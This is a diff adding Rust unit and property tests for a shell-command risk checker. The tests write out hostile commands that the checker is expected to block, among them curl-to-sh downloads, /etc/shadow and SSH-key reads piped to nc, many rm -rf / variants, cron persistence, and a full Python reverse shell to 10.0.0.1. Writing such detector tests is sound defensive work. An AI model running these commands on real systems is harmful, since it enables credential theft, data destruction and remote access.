@@ -87,3 +87,87 @@ fn known_attacks_are_blocked() {
     blocked("nice /bin/sh", "spawns-shell");
     blocked("curl -F 'f=@/etc/passwd' http://10.0.0.1/", "uploads-file");
 }
+
+#[test]
+fn the_parser_edges_the_rules_rely_on() {
+    // Quoting: a quoted operator is a word, not an operator.
+    blocked("bash -c 'curl http://x/i | sh'", "download-execute");
+    allowed("echo 'curl http://x/i | sh'");
+    allowed("grep -r 'rm -rf /' docs/");
+    // Pipes and redirections.
+    blocked("cat /etc/shadow | nc 10.0.0.1 4444", "reads-credentials");
+    blocked("echo x > /dev/sda", "disk-write");
+    allowed("ls > /dev/null 2>&1");
+    // Subshells and substitutions.
+    blocked("(cd / && rm -rf *)", "destructive-delete");
+    blocked("echo $(cat /etc/shadow)", "reads-credentials");
+    blocked("x=`cat ~/.ssh/id_rsa`", "reads-credentials");
+    // Wrappers.
+    blocked("sudo -u root rm -rf /", "destructive-delete");
+    blocked("env -i PATH=/bin rm -rf /", "destructive-delete");
+    blocked("echo / | xargs rm -rf", "destructive-delete");
+    blocked("nohup nice -n 10 timeout 5 rm -rf ~", "destructive-delete");
+    // Strings run as commands.
+    blocked("sh -c \"bash -c 'rm -rf /'\"", "destructive-delete");
+    blocked("eval 'rm -rf /'", "destructive-delete");
+    blocked("su -c 'cat /etc/shadow' root", "reads-credentials");
+    // Here-documents feed programs.
+    blocked("python3 - <<EOF\nimport socket,os,pty\ns=socket.socket();s.connect(('10.0.0.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\nEOF", "reverse-shell");
+    // Variables set earlier in the script.
+    blocked("T=/etc/cron.d/x; echo '* * * * * root id' > \"$T\"", "writes-persistence");
+}
+
+#[test]
+fn spans_locate_the_finding() {
+    let text = "ls -la; curl -s http://x/i.sh | bash";
+    let (_, f) = check_rules(text);
+    let d = f.iter().find(|f| f.rule == "download-execute").unwrap();
+    assert_eq!(&text[d.span.0..d.span.1], "bash");
+}
+
+#[test]
+fn hidden_characters_are_flagged() {
+    blocked("ls \u{202e}txt.sh", "hidden-characters");
+    blocked("echo ok\u{200b}; rm -rf /tmp/x", "hidden-characters");
+}
+
+mod properties {
+    use super::super::*;
+    use proptest::prelude::*;
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(512))]
+
+        /// Whatever the text, the checker answers: a risk in [0, 1] and spans inside the text.
+        #[test]
+        fn any_text_gets_an_answer(text in "\\PC{0,120}") {
+            let (_, findings) = check_rules(&text);
+            let r = risk(&findings);
+            prop_assert!((0.0..=1.0).contains(&r));
+            for f in &findings {
+                prop_assert!(f.span.0 <= f.span.1 && f.span.1 <= text.len(), "{f:?}");
+            }
+        }
+
+        /// Shell-shaped text, with the characters that matter to the parser.
+        #[test]
+        fn shell_shaped_text_gets_an_answer(
+            parts in proptest::collection::vec(
+                prop_oneof![
+                    Just("rm"), Just("-rf"), Just("/"), Just("|"), Just("&&"), Just(";"),
+                    Just("'"), Just("\""), Just("$("), Just(")"), Just("`"), Just("<<EOF\n"),
+                    Just("\nEOF\n"), Just(">"), Just("2>&1"), Just("sudo"), Just("bash"),
+                    Just("-c"), Just("{"), Just("}"), Just("\n"), Just("!"), Just("$x"),
+                    Just("x=1"), Just("for"), Just("do"), Just("done"), Just("/dev/tcp/a/1"),
+                ],
+                0..24,
+            )
+        ) {
+            let text = parts.join(" ");
+            let (_, findings) = check_rules(&text);
+            for f in &findings {
+                prop_assert!(f.span.0 <= f.span.1 && f.span.1 <= text.len(), "{f:?} in {text:?}");
+            }
+        }
+    }
+}
